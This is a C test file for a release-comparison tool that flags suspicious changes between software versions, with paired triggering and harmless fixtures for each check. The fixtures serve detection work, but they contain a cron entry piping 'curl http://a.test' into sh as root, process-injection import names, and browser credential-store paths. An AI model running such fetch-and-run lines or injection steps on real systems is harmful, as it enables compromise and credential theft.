/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Each check of the registry about two releases: does it speak when its change is there, and is it silent in the twin, where the
 * same thing changed harmlessly or was there before? A check that is in the registry and not in this table fails.
 * TURNCOAT_SHOW_CHECKS=1 prints what each says.
 *
 * A release is lines of text: "= PATH FORMAT SIZE CONTENT [MODE]" a file, "+ NAME FORMAT SIZE CONTENT" what is in it, and
 * below either its facts "KIND|KEY|VALUE|NUMBER", "property|KEY|VALUE", "signed|SIGNER|SERIAL|DIGEST|UNCOVERED", "gap|".
 */
#include "event/check_artifact.h"
#include "made.h"
#include "release/context.h"

#include <stdio.h>
#include <stdlib.h>

#define DLL(content) "= app/x.dll pe 2000000 " content "\nproperty|dll|yes\nmeasure|code.imports||90000\n"
#define SO(content) "= lib/libx.so elf 2000000 " content "\nproperty|type|library\nmeasure|code.imports||90000\n"
#define MAC(content) "= app/tool macho 2000000 " content "\nmeasure|code.imports||90000\n"
#define SIX(x1, x2)                                                                                             \
    "= app/a.dll pe 90000 a" x1 "= app/b.dll pe 90000 b" x1 "= app/c.dll pe 90000 c" x1 "= app/d.dll pe 90000 " \
    "d" x1 "= app/e.dll pe 90000 e" x1 "= app/f.dll pe 90000 f" x2
#define TOOL(v, n) v "\ntoolchain|linker|" n "\n"
#define BUILT(v, t) v "\ntime|linker||" t "\n"
#define ASAR(content) "= app/app.asar asar 90000 " content "\n"
#define OTHER "= app/other.dll pe 2000 o\n"
#define FAT(content) "= app/tool macho-fat 900000 " content "\n"
#define SLICE(name, content) "+ " name " macho 400000 " content "\nmeasure|code.imports||90000\nimport||malloc\n"
#define FEW(n) \
    "= x/" n "1 data 10 1\n= x/" n "2 data 10 2\n= x/" n "3 data 10 3\n= x/" n "4 data 10 4\n= x/" n "5 data 10 5\n"
#define NPM "= package.json json 300 "

static const struct check_case {
    const char *check, *before, *after;
    const char *twin_before; /* NULL: as before */
    const char *twin_after;
} cases[] = {
    {"diff.same-authentihash", DLL("a") "signed|Acme|1|D\n", DLL("b") "signed|Acme|1|D|4096\n", NULL,
     DLL("b") "signed|Acme|1|E\n"},
    {"diff.signer-changed", DLL("a") "signed|Acme|1|D\n", DLL("b") "signed|Other|2|E\n", NULL,
     DLL("b") "signed|Acme|1|E\n"},
    {"diff.signature-lost", DLL("a") "signed|Acme|1|D\n", DLL("b"), NULL, DLL("b") "signed|Acme|1|E\n"},
    {"diff.unsigned-among-signed",
     "= a.dll pe 9000 a\nsigned|Acme|1|A\n= b.dll pe 9000 b\nsigned|Acme|1|B\n= c.dll pe 9000 c\nsigned|Acme|1|C\n",
     "= a.dll pe 9000 a\nsigned|Acme|1|A\n= b.dll pe 9000 b\nsigned|Acme|1|B\n= c.dll pe 9000 c\nsigned|Acme|1|C\n"
     "= d.dll pe 9000 d\n",
     NULL,
     "= a.dll pe 9000 a\nsigned|Acme|1|A\n= b.dll pe 9000 b\nsigned|Acme|1|B\n= c.dll pe 9000 c\nsigned|Acme|1|C\n"
     "= d.dll pe 9000 d\nsigned|Acme|1|D\n"},
    {"diff.upstream-differs", DLL("a"), DLL("b") "import|kernel32.dll|WinExec\n", NULL, DLL("reference")},
    {"diff.same-build-id", DLL("a") "toolchain|build_id|0a1b\nimport|k|x\n",
     DLL("b") "toolchain|build_id|0a1b\nimport|k|x\nimport|k|y\n", NULL,
     DLL("b") "toolchain|build_id|0a1b\nimport|k|x\nsection|.debug|r--|900\n"},
    {"diff.new-capability", DLL("a") "import|kernel32.dll|CreateFileW\n",
     DLL("b") "import|kernel32.dll|CreateFileW\nimport|wininet.dll|InternetOpenUrlW\nimport|kernel32.dll|WinExec\n",
     NULL, DLL("b") "import|kernel32.dll|CreateFileW\nimport|kernel32.dll|GetTickCount\n"},
    {"diff.sibling-read", DLL("a") "import|kernel32.dll|CreateFileW\n" OTHER,
     DLL("b") "import|kernel32.dll|CreateFileW\nsibling||other.dll|1\n" OTHER, DLL("a") "sibling||other.dll|1\n" OTHER,
     DLL("b") "sibling||other.dll|1\n" OTHER},
    {"diff.exports-changed", DLL("a") "export||a\nexport||b\nexport||c\nexport||d\n",
     DLL("b") "export||a\nexport||e\nexport||f\n", NULL, DLL("b") "export||a\nexport||b\nexport||c\nexport||d\n"},
    {"diff.memory-permissions", DLL("a") "section|.text|r-x|9000\n", DLL("b") "section|.text|rwx|9000\n",
     DLL("a") "section|.text|rwx|9000\n", DLL("b") "section|.text|rwx|9100\n"},
    {"diff.early-code", DLL("a") "import|k|x\n", DLL("b") "import|k|x\nearly|tls||1\n", DLL("a") "early|tls||1\n",
     DLL("b") "early|tls||1\n"},
    {"diff.elf-ifunc", SO("a") "import||memcpy\n", SO("b") "import||memcpy\nifunc||choose\n",
     SO("a") "import||memcpy\nifunc||choose\n", SO("b") "import||memcpy\nifunc||choose\n"},
    {"diff.elf-hooked-loading", SO("a") "import||memcpy\n",
     SO("b") "import||memcpy\nifunc||choose\nability||dlopen|1\n", NULL,
     SO("b") "import||memcpy\nifunc||choose\nability||cpuid|1\n"},
    {"diff.rpath", SO("a") "import||memcpy\n", SO("b") "import||memcpy\nrpath||/tmp/x\n", SO("a") "rpath||/tmp/x\n",
     SO("b") "rpath||/tmp/x\n"},
    {"diff.new-library", SO("a") "library||libc.so.6\n", SO("b") "library||libc.so.6\nlibrary||libodd.so.1\n", NULL,
     SO("b") "library||libc.so.6\nimport||x\n"},
    {"diff.crypto-table", DLL("a") "import|k|x\n", DLL("b") "import|k|x\ntable||rc4\n", DLL("a") "table||rc4\n",
     DLL("b") "table||rc4\n"},
    {"diff.entitlement", MAC("a") "import||x\nsigned|Acme|1|D\n",
     MAC("b") "import||x\nsigned|Acme|1|E\nentitlement|com.apple.security.cs.allow-dyld-environment-variables|true\n",
     NULL, MAC("b") "import||x\nsigned|Acme|1|E\n"},
    {"diff.one-slice", FAT("a") SLICE("x86_64", "a") SLICE("arm64", "b"),
     FAT("b") SLICE("x86_64", "c") SLICE("arm64", "d") "import||connect\nimport||socket\n", NULL,
     FAT("b") SLICE("x86_64", "c") "import||connect\nimport||socket\n" SLICE("arm64",
                                                                             "d") "import||connect\nimport||socket\n"},
    {"diff.privilege", "= bin/x elf 9000 a 0755\n", "= bin/x elf 9000 b 04755\nprivilege|setuid|4755\n", NULL,
     "= bin/x elf 9000 b 0711\n"},
    {"diff.autostart", "= x data 10 a\n", "= x data 10 a\n= etc/cron.d/x text 10 b\nservice|cron|x: * * * * * root y\n",
     NULL, "= x data 10 a\n= usr/share/x text 10 b\n"},
    {"diff.toolchain-outlier", SIX(TOOL("1", "14.3"), TOOL("1", "14.3")), SIX(TOOL("2", "14.4"), TOOL("2", "9.0")),
     NULL, SIX(TOOL("2", "14.4"), TOOL("2", "14.4"))},
    {"diff.time-outlier", SIX(BUILT("1", "1700000000"), BUILT("1", "1700000000")),
     SIX(BUILT("2", "1710000000"), BUILT("2", "1730000000")), NULL,
     SIX(BUILT("2", "1710000000"), BUILT("2", "1710000500"))},
    {"diff.small-version-large-change", "= x tar 10 a\nproperty|product|x\nproperty|version|1.0.0\n" FEW("a"),
     "= x tar 10 b\nproperty|product|x\nproperty|version|1.0.1\n" FEW("a") FEW("b") FEW("c") FEW("d") FEW("e") FEW("f"),
     NULL,
     "= x tar 10 b\nproperty|product|x\nproperty|version|1.1.0\n" FEW("a") FEW("b") FEW("c") FEW("d") FEW("e")
         FEW("f")},
    {"diff.new-dependency", NPM "a\ndependency|left|^1\n", NPM "b\ndependency|left|^1\ndependency|flat-map|^0.1\n",
     NULL, NPM "b\ndependency|left|^2\n"},
    {"diff.hidden-growth", DLL("a") "import|k|x\n", DLL("b") "import|k|x\nrandom|.rdata|7.99|60000\n",
     DLL("a") "random|.rdata|7.99|60000\n", DLL("b") "random|.rdata|7.99|60500\n"},
    {"diff.new-program", "= a.txt text 10 a\n", "= a.txt text 10 a\n= helper.exe pe 9000 b\n", NULL,
     "= a.txt text 10 a\n= helper.txt text 9000 b\n"},
    {"diff.became-program", "= logo.png png 5000 a\n", "= logo.png pe 5000 b\n", NULL, "= logo.png png 5100 b\n"},
    {"diff.lifecycle-script", NPM "a\nscript|main|m.js\n", NPM "b\nscript|main|m.js\nscript|postinstall|node x.js\n",
     NPM "a\nscript|postinstall|node x.js\n", NPM "b\nscript|postinstall|node x.js\n"},
    {"diff.maintainer-script", "= postinst shell 90 a\nscript|postinst|0a\n",
     "= postinst shell 99 b\nscript|postinst|0b\ncall|network|curl\n", NULL,
     "= postinst shell 99 b\nscript|postinst|0b\ncall|service|systemctl\n"},
    {"diff.custom-action", "= x.msi msi 90000 a\nscript|custom-action|Check1: library C1 Run\n",
     "= x.msi msi 90000 b\nscript|custom-action|Check1: library C1 Run\nscript|custom-action|Late: program P x.exe\n",
     NULL, "= x.msi msi 90000 b\nscript|custom-action|Check2: library C2 Run\n"},
    {"diff.obfuscation", "= x/a.js javascript 9000 a\nmeasure|js.tokens||900000\n",
     "= x/a.js javascript 9000 b\nmeasure|js.tokens||900000\nmeasure|js.hex-names||400\n", NULL,
     "= x/a.js javascript 9000 b\nmeasure|js.tokens||990000\n"},
    {"diff.script-capability", "= x/a.php text 9000 a\nmeasure|script.language|php\n",
     "= x/a.php text 9000 b\nmeasure|script.language|php\ncall|network|curl_init\ncall|code|eval\n", NULL,
     "= x/a.php text 9000 b\nmeasure|script.language|php\ncall|file|fopen\n"},
    {"diff.built-alone", "= x/src/a.ts text 900 a\n= x/dist/a.js javascript 900 a\n",
     "= x/src/a.ts text 900 a\n= x/dist/a.js javascript 900 b\ncall|network|fetch\n", NULL,
     "= x/src/a.ts text 910 b\n= x/dist/a.js javascript 900 b\ncall|network|fetch\n"},
    {"diff.archive-integrity", ASAR("a") "+ package.json json 90 a\nscript|main|index.js\n",
     ASAR("b") "+ package.json json 90 b\nscript|main|late.js\n", NULL,
     ASAR("b") "+ package.json json 91 b\nscript|main|index.js\n+ more.js javascript 90 c\n"},
    {"diff.closed", "= data.zip zip 9000 a\n+ a.txt text 90 a\n", "= data.zip zip 9000 b\ngap|\n", NULL,
     "= data.zip zip 9000 b\n+ a.txt text 90 c\n"},
    {"diff.new-contact", DLL("a") "text|url|https://www.known.test/|2\n",
     DLL("b") "text|url|https://www.known.test/|2\ntext|url|http://203.0.113.9/x|2\n", NULL,
     DLL("b") "text|url|https://www.known.test/other|2\n"},
    {"diff.browser-data", DLL("a") "text|url|https://www.known.test/|2\n",
     DLL("b") "text|browser|default/login data|2\ntext|browser|google/chrome|2\ntext|browser|places.sqlite|2\n", NULL,
     DLL("b") "text|browser|google/chrome|2\n"},
};

/* ---- lines of text to a release ---- */

static struct trn_str word(struct trn_str *rest, char end)
{
    ptrdiff_t at = trn_str_find(*rest, end);
    struct trn_str w = trn_str_slice(*rest, 0, at < 0 ? rest->n : (size_t)at);
    *rest = trn_str_slice(*rest, w.n + 1, rest->n);
    return w;
}

static enum trn_format format_named(struct trn_str name)
{
    for (enum trn_format f = 0; f < TRN_FORMAT_MAX; f++)
        if (trn_str_eq_c(name, trn_format_name(f)))
            return f;
    cr_assert(false, "no format '%.*s'", TRN_STR_ARG(name));
    return TRN_FORMAT_DATA;
}

static void put_artifact(struct made *m, struct trn_str line, uint32_t parent)
{
    char path[100];
    struct trn_artifact a = {.parent = parent, .depth = parent ? 1 : 0};
    struct trn_str p = word(&line, ' '), mode;
    snprintf(path, sizeof(path), "%.*s", TRN_STR_ARG(p));
    if (!parent)
        made_file(m, path);
    a.format = format_named(word(&line, ' '));
    a.size = strtoull(word(&line, ' ').p, NULL, 10);
    struct trn_str content = word(&line, ' ');
    mode = word(&line, ' ');
    a.mode = mode.n ? (uint32_t)strtoul(mode.p, NULL, 8) : 0644;
    a.id = ++m->last;
    a.name = parent ? trn_str_of(path) : trn_path_base(trn_str_of(path));
    cr_assert_eq(trn_sha256(content.p, content.n, a.sha256), 0);
    cr_assert_eq(trn_release_artifact(m->r, m->file, &a), 0);
}

static void put_signature(struct made *m, struct trn_str line)
{
    struct trn_str who = word(&line, '|'), serial = word(&line, '|'), digest = word(&line, '|');
    struct trn_signature s = {.kind = TRN_SIGNATURE_AUTHENTICODE,
                              .digest = TRN_DIGEST_OK,
                              .chain = TRN_CHAIN_OK,
                              .signer = who,
                              .serial = serial,
                              .content_digest = digest,
                              .signatures = 1};
    if (line.n)
        trn_signature_uncovered(&s, 0x1e0000, strtoull(line.p, NULL, 10), "behind the signatures", false);
    made_signature_put(m, &s);
}

static void put_fact(struct made *m, struct trn_str line)
{
    struct trn_str kind = word(&line, '|');
    if (trn_str_eq_c(kind, "signed")) {
        put_signature(m, line);
        return;
    }
    if (trn_str_eq_c(kind, "gap")) {
        struct trn_gap g = {.kind = TRN_GAP_ENCRYPTED, .what = TRN_STR("needs a password")};
        cr_assert_eq(trn_release_gap(m->r, m->file, m->last, &g), 0);
        return;
    }
    struct trn_str key = word(&line, '|'), value = word(&line, '|');
    if (trn_str_eq_c(kind, "property")) {
        cr_assert_eq(trn_release_property(m->r, m->file, m->last, key, value), 0);
        return;
    }
    struct trn_feature f = {.key = key, .value = value, .at = 0x1000};
    f.number = line.n ? strtoull(line.p, NULL, 10) : 1;
    while (f.kind < TRN_FEATURE_KIND_MAX && !trn_str_eq_c(kind, trn_feature_kind_name(f.kind)))
        f.kind++;
    cr_assert_neq(f.kind, TRN_FEATURE_KIND_MAX, "no fact '%.*s'", TRN_STR_ARG(kind));
    cr_assert_eq(trn_release_feature(m->r, m->file, m->last, &f), 0);
}

static struct trn_release *release_of(const char *label, const char *text)
{
    struct made m = made_new(label, NULL);
    struct trn_str rest = trn_str_of(text);
    while (rest.n) {
        struct trn_str line = word(&rest, '\n');
        if (trn_str_starts(line, TRN_STR("= ")))
            put_artifact(&m, trn_str_slice(line, 2, line.n), 0);
        else if (trn_str_starts(line, TRN_STR("+ ")))
            put_artifact(&m, trn_str_slice(line, 2, line.n), 1);
        else
            put_fact(&m, line);
    }
    return made_done(&m);
}

/* ---- the table ---- */

static void show(const struct trn_finding *f, const struct trn_change *c)
{
    const struct trn_release_member *m = c->new_member ? c->new_member : c->old_member;
    struct trn_str was = trn_finding_evidence(f, "old"), is = trn_finding_evidence(f, "new"),
                   at = trn_finding_evidence(f, "offset");
    printf("%3u %s  %.*s\n      %.*s\n      %.*s -> %.*s%s%.*s\n", f->score, f->check->id, TRN_STR_ARG(m->path),
           TRN_STR_ARG(f->summary), TRN_STR_ARG(was), TRN_STR_ARG(is), at.n ? ", at " : "", TRN_STR_ARG(at));
}

/* What the check says of the pair; its words are whole. */
static bool speaks(const char *check, const char *old_text, const char *new_text)
{
    MADE_AUTO(reference) = release_of("upstream", DLL("reference"));
    MADE_AUTO(before) = release_of("old", old_text);
    MADE_AUTO(after) = release_of("new", new_text);
    const struct trn_release *const upstream[] = {reference};
    const struct trn_diff_options o = {.sz = sizeof(o), .upstream = upstream, .n_upstream = 1};
    TRN_AUTO(trn_diff_freep) struct trn_diff *d = made_diff_with(before, after, &o);
    bool told = false;
    for (size_t i = 0; i < d->n_reasons; i++) {
        const struct trn_finding *f = d->reasons[i].finding;
        if (strcmp(f->check->id, check) != 0)
            continue;
        if (!told && getenv("TURNCOAT_SHOW_CHECKS"))
            show(f, d->reasons[i].change);
        told = true;
        cr_expect(f->score > 0 && f->summary.n > 20, "%s: %.*s", check, TRN_STR_ARG(f->summary));
        cr_expect_neq(trn_finding_evidence(f, "old").n, 0, "%s has no old value", check);
        cr_expect_neq(trn_finding_evidence(f, "new").n, 0, "%s has no new value", check);
        cr_expect(!trn_str_eq(trn_finding_evidence(f, "old"), trn_finding_evidence(f, "new")),
                  "%s: old and new value are the same: %.*s", check, TRN_STR_ARG(trn_finding_evidence(f, "new")));
    }
    return told;
}

static const struct check_case *case_of(const char *check)
{
    for (size_t i = 0; i < TRN_ARRAY_SIZE(cases); i++)
        if (strcmp(cases[i].check, check) == 0)
            return &cases[i];
    return NULL;
}

Test(checks, each_of_the_registry_speaks_when_its_change_is_there)
{
    for (size_t i = 0; i < trn_release_checks_count; i++) {
        const char *check = trn_release_checks[i].id;
        const struct check_case *c = case_of(check);
        cr_expect(c && speaks(check, c->before, c->after), "%s is never told", check);
    }
    cr_expect_eq(TRN_ARRAY_SIZE(cases), trn_release_checks_count);
}

Test(checks, each_is_silent_in_its_harmless_twin)
{
    for (size_t i = 0; i < TRN_ARRAY_SIZE(cases); i++) {
        const struct check_case *c = &cases[i];
        cr_expect(!speaks(c->check, c->twin_before ? c->twin_before : c->before, c->twin_after), "%s", c->check);
    }
}

/* ---- what a version lets expect ---- */

static uint16_t score_in(const char *check, const char *version, const char *old_text, const char *new_text)
{
    char was[2048], is[2048];
    snprintf(was, sizeof(was), "= v tar 9 v\nproperty|product|x\nproperty|version|1.4.2\n%s", old_text);
    snprintf(is, sizeof(is), "= v tar 9 w\nproperty|product|x\nproperty|version|%s\n%s", version, new_text);
    MADE_AUTO(before) = release_of("old", was);
    MADE_AUTO(after) = release_of("new", is);
    TRN_AUTO(trn_diff_freep) struct trn_diff *d = made_diff(before, after);
    const struct trn_finding *f = found(d, check);
    return f ? f->score : 0;
}

Test(checks, what_a_fix_brings_weighs_more_than_what_a_new_version_does)
{
    static const struct {
        const char *check, *before, *after;
        uint16_t fix, minor, major;
    } rows[] = {
        {"diff.autostart", "", "= lib/systemd/system/x.service text 9 b\nservice|systemd|x.service: /usr/bin/x\n", 40,
         28, 20},
        {"diff.autostart", "", "= etc/cron.d/x text 9 b\nservice|cron|x: * * * * * root curl http://a.test | sh\n", 45,
         45, 45},
        {"diff.new-capability", DLL("a") "import|k|malloc\n", DLL("b") "import|k|malloc\nimport|k|connect\n", 40, 28,
         20},
        {"diff.new-capability", DLL("a") "import|k|ptrace\nimport|k|VirtualAllocEx\n",
         DLL("b") "import|k|ptrace\nimport|k|VirtualAllocEx\nimport|k|WriteProcessMemory\nimport|k|"
                  "CreateRemoteThread\n",
         40, 28, 20},
        {"diff.script-capability", "= x/a.py python 9 a\ncall|file|open\n",
         "= x/a.py python 9 b\ncall|process|subprocess\n", 40, 20, 10},
        {"diff.new-contact", "= x/a.py python 9 a\ncall|network|requests\n",
         "= x/a.py python 9 b\ncall|network|requests\ntext|url|http://203.0.113.9/|2\n", 40, 40, 20},
    };
    for (size_t i = 0; i < TRN_ARRAY_SIZE(rows); i++) {
        cr_expect_eq(score_in(rows[i].check, "1.4.3", rows[i].before, rows[i].after), rows[i].fix, "%zu", i);
        cr_expect_eq(score_in(rows[i].check, "1.5.0", rows[i].before, rows[i].after), rows[i].minor, "%zu", i);
        cr_expect_eq(score_in(rows[i].check, "2.0.0", rows[i].before, rows[i].after), rows[i].major, "%zu", i);
    }
}

/* The package can hand an address to its other scripts; alone it goes nowhere. */
Test(checks, an_address_weighs_when_some_script_can_go_there)
{
    static const char names[] = "= x/a.py python 9 b\ntext|url|http://203.0.113.9/|2\n";
    static const char other[] = "= x/b.py python 9 c\ncall|network|requests\n";
    char with[400];
    snprintf(with, sizeof(with), "%s%s", names, other);
    cr_expect_eq(score_in("diff.new-contact", "1.4.3", "= x/a.py python 9 a\n", names), 12);
    cr_expect_eq(score_in("diff.new-contact", "1.4.3", other, with), 40);
}
